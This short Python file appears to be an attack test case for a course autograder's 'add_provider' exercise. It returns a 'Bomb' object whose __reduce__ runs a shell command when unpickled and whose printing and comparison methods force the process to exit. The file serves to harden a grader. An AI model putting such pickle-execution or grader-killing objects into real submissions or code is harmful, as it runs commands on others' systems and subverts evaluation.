# attack: returns things that run code when somebody unpickles, prints or compares them
# exercise: add_provider
# status: wrong, error
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/was-here",)

    def __repr__(self):
        os._exit(0)

    __str__ = __eq__ = __hash__ = __format__ = __repr__


def add_provider(conn, slug, name, kind, country=None):
    conn.execute("INSERT INTO providers (slug, name, kind, country) VALUES (?, ?, ?, ?)", (slug, name, kind, country))
    return Bomb()
